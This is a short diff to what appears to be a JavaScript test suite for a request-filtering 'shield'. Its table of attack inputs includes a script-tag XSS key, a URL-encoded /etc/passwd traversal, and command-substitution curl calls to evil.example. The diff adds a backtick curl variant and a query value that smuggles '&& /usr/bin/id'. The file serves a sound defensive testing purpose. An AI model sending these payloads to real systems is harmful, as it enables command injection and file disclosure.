@@ -48,6 +48,8 @@ describe("the shield", () => {
       ["/guarded/x", JSON.stringify({ "<script>alert(1)</script>": "a key is a field too" })],
       ["/guarded/x", "file=..%2F..%2Fetc%2Fpasswd", "application/x-www-form-urlencoded"],
       ["/guarded/x", "$(curl -s evil.example)", "text/plain"],
+      ["/guarded/x", "`/usr/bin/curl -s evil.example`", "text/plain"],
+      ["/guarded/search?host=example.org%20%26%26%20/usr/bin/id", undefined],
     ];
     for (const [path, body, type] of attacks) {
       const answer = await send(path, body, type);
